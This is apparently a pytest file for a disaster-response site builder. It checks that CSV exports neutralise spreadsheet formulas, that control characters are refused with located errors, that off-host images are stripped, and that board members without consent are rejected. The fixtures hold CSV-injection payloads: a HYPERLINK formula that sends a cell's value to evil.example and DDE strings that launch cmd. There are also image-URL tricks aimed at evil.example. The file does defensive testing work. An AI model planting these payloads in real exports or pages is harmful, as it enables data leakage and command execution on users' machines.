"""Hostile content in the files partners open: a formula typed into a KSB's name, need or address reaches no
spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from conftest import KSB_SOURCE, TODAY, write

# Each a formula Excel or LibreOffice would evaluate if the cell started with it (OWASP "CSV Injection").
NAME = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
NEED = "-1+cmd|'/C calc'!A0"
ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
POINT = "+1+cmd|'/C calc'!A0"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from conftest import GOLDEN_CONTENT, make_project
    from siaga.build import build

    project = make_project(tmp_path_factory.mktemp("hostile") / "proyek", GOLDEN_CONTENT)
    write(project, "ksb/kab-lebak/rumus.yml", f"""\
nama: '{NAME.replace("'", "''")}'
kecamatan: Bayah
{KSB_SOURCE}
posko:
  alamat: "{ADDRESS.replace('"', '""')}"
  telepon: 0812-0000-0404
titik_kumpul:
  - nama: "{POINT}"
kebutuhan:
  - barang: "{NEED}"
""")
    build(project, strict=True, today=TODAY)
    return project


@pytest.mark.parametrize("name", ["data/ksb.csv", "data/ksb-hxl.csv"])
def test_no_csv_cell_starts_a_formula(hostile_site, name):
    rows = list(csv.reader(io.StringIO((hostile_site.site / name).read_text(encoding="utf-8"))))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    # A negative decimal (a latitude) is a number to a spreadsheet, and runs nothing: the only cell left as it is.
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)]
    assert [cell for cell in cells if cell.startswith("-")], "the latitudes are there, as numbers"
    row = next(dict(zip(header, r, strict=True)) for r in body if "HYPERLINK" in "".join(r))
    # The text is all there, readable as text: a leading apostrophe, which a spreadsheet does not show.
    assert row["nama"] == "'" + NAME
    assert row["posko_alamat"] == "'" + ADDRESS
    assert row["kebutuhan"] == "'" + NEED
    assert row["titik_kumpul"] == "'" + POINT
    assert row["posko_telepon"] == "'+6281200000404"  # kept as text, not 6.28E+12
    assert row["posko_telepon_lokal"] == "0812-0000-0404"


def test_json_and_geojson_keep_the_values_as_typed(hostile_site):
    """Only CSV, which spreadsheets open, carries the apostrophe: code reading JSON gets the value itself."""
    rows = json.loads((hostile_site.site / "data/ksb.json").read_text(encoding="utf-8"))
    rows = rows if isinstance(rows, list) else next(v for v in rows.values() if isinstance(v, list))
    row = next(r for r in rows if r["nama"] == NAME)
    assert row["posko_telepon"] == "+6281200000404"
    assert row["kebutuhan"] == [NEED]


def test_the_data_dictionary_says_how_csv_cells_are_neutralised(hostile_site):
    from conftest import page

    text = page(hostile_site, "/data/").get_text(" ")
    assert "petik tunggal" in text and "rumus" in text


# --- control characters -------------------------------------------------------------------------

CONTROL_CASES = {
    # A YAML escape in a double-quoted value, as the review found it: accepted, then the feed writer failed.
    "escaped-vertical-tab": ("ksb/kab-lebak/uji.yml", 'nama: KSB Uji\nkecamatan: "Ciruas\\vBaru"\n', 2, 12, "U+000B"),
    "raw-start-of-text": ("ksb/kab-lebak/uji.yml", "nama: KSB Uji\x02\nkecamatan: Bayah\n", 1, 14, "U+0002"),
    "escaped-next-line": ("ksb/kab-lebak/uji.yml", 'nama: "KSB\\x85Uji"\nkecamatan: Bayah\n', 1, 7, "U+0085"),
    "raw-in-a-guide-body": ("panduan/uji.md", "---\njudul: Uji\nringkasan: Uji.\nsumber: [{judul: S, penerbit: P, tahun: 2024}]\n"
                            "ditinjau: {tanggal: 2026-11-01, oleh: Tim}\n---\n\nLangkah satu.\n\nLangkah\x0cdua.\n", 10, 8, "U+000C"),
    "lone-carriage-return": ("ksb/kab-lebak/uji.yml", "nama: KSB Uji\rkecamatan: Bayah\n", 1, 14, "U+000D"),
}


@pytest.mark.parametrize("case", sorted(CONTROL_CASES))
def test_a_control_character_is_refused_at_its_place_naming_it(project, case):
    from siaga.content.errors import ContentInvalid
    from siaga.content.validate import load_and_validate

    relative, text, line, column, code = CONTROL_CASES[case]
    if relative.endswith(".yml"):
        text += KSB_SOURCE + "\n"
    write(project, relative, text)
    with pytest.raises(ContentInvalid) as failure:
        load_and_validate(project.content, today=TODAY)
    messages = [str(problem) for problem in failure.value.errors]
    assert [m for m in messages if m.startswith(f"content/{relative}:{line}:{column}: karakter kendali {code}")], messages


def test_windows_line_ends_and_tabs_are_text(project):
    from siaga.content.validate import load_and_validate

    write(project, "ksb/kab-lebak/uji.yml", f"nama: KSB Uji\r\nkecamatan: Bayah\r\n{KSB_SOURCE}\r\nlogistik: \"Tenda\\tdua\"\r\n")
    assert "uji" in [entry.slug for entry in load_and_validate(project.content, today=TODAY).ksb]


def test_a_control_character_in_an_imported_sheet_is_refused_at_its_row_and_column(project, tmp_path):
    from siaga.content.errors import ContentInvalid
    from siaga.maintainer.spreadsheet import import_file

    sheet = tmp_path / "ksb.csv"
    sheet.write_text("wilayah,berkas,nama,kecamatan,sumber_judul,sumber_penerbit,sumber_tanggal\n"
                     "Kabupaten Lebak,cikotok,KSB Ciko\x0btok,Cibeber,Berita uji,Koran uji,2025-01-02\n", encoding="utf-8")
    before = sorted(project.content.rglob("*"))
    with pytest.raises(ContentInvalid) as failure:
        import_file(sheet, project.content)
    assert [str(p) for p in failure.value.errors] == [
        f"{sheet.name}:2:3: baris 2, kolom nama: karakter kendali U+000B (tab vertikal) tidak boleh ada di teks: biasanya "
        "terbawa saat menyalin dari Word, PDF atau WhatsApp. Hapus bagian itu lalu ketik ulang"]
    assert sorted(project.content.rglob("*")) == before


# --- pictures -------------------------------------------------------------------------------------

PICTURES = {
    "character-references": "![a](&#47;&#47;evil.example/a.png)",
    "backslash": "![b](/\\evil.example/b.png)",
    "escaped-colon": "![c](https&#58;//evil.example/c.png)",
    "protocol-relative": "![d](//evil.example/d.png)",
    "tab-inside": "![e](/\t/evil.example/e.png)",
    "html-img": '<img src="&#x2F;&#x2F;evil.example/f.png" alt="f">',
    "data": "![g](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
}


def test_a_picture_from_another_host_reaches_no_built_page(project):
    """As the review reproduced it: each picture in a guide made every reader's browser call evil.example."""
    from siaga.build import build

    guide = next(project.content.glob("panduan/*.md"))
    guide.write_text(guide.read_text(encoding="utf-8") + "\n\n" + "\n\n".join(PICTURES.values()) + "\n\n![ok](gambar.png)\n",
                     encoding="utf-8")
    build(project, strict=False, today=TODAY)
    html = (project.site / "panduan" / guide.stem / "index.html").read_text(encoding="utf-8")
    from urllib.parse import urljoin, urlsplit

    from bs4 import BeautifulSoup

    article = BeautifulSoup(html, "html.parser").select_one("article")
    here = f"https://siagabanten.example/panduan/{guide.stem}/"
    for img in article.select("img"):
        # As a browser resolves it: a backslash is a slash, tabs and newlines inside are dropped.
        source = "".join(ch for ch in img["src"].replace("\\", "/") if ch not in "\t\n\r")
        assert urlsplit(urljoin(here, source)).hostname == "siagabanten.example", img
    assert "gambar.png" in [img["src"].rsplit("/", 1)[-1] for img in article.select("img")]
    text = article.get_text(" ").split()
    for alt in "abcdg":
        assert alt in text, alt  # a refused picture leaves its description, as text


# --- personal data the site may not publish stays out of the repository --------------------------------------------


def _problems(project) -> list[str]:
    from siaga.content.errors import ContentInvalid
    from siaga.content.validate import load_and_validate

    with pytest.raises(ContentInvalid) as caught:
        load_and_validate(project.content, today=TODAY)
    return [str(error) for error in caught.value.errors]


@pytest.mark.parametrize(("person", "at", "says"), [
    ("  - nama: Orang Tanpa Persetujuan\n    jabatan: bendahara\n    telepon: 0812-0000-0999\n", "9:5: pengurus tanpa 'persetujuan'",
     "berkas kantor Dinas Sosial atau Forum KSB"),
    ("  - nama: Orang Tersembunyi\n    jabatan: bendahara\n    publik: false\n    persetujuan: 2026-01-01\n", "11:5: publik: false",
     "tidak boleh dicatat di sini"),
], ids=["no-consent-date", "marked-not-public"])
def test_a_board_member_the_site_may_not_publish_is_refused_and_told_where_such_records_belong(project, person, at, says):
    from conftest import KSB_MINIMAL

    write(project, "ksb/kab-lebak/uji.yml", KSB_MINIMAL + "pengurus:\n" + person)
    [problem] = _problems(project)
    assert problem.startswith("content/ksb/kab-lebak/uji.yml:" + at), problem
    assert says in problem and "berkas kantor" in problem
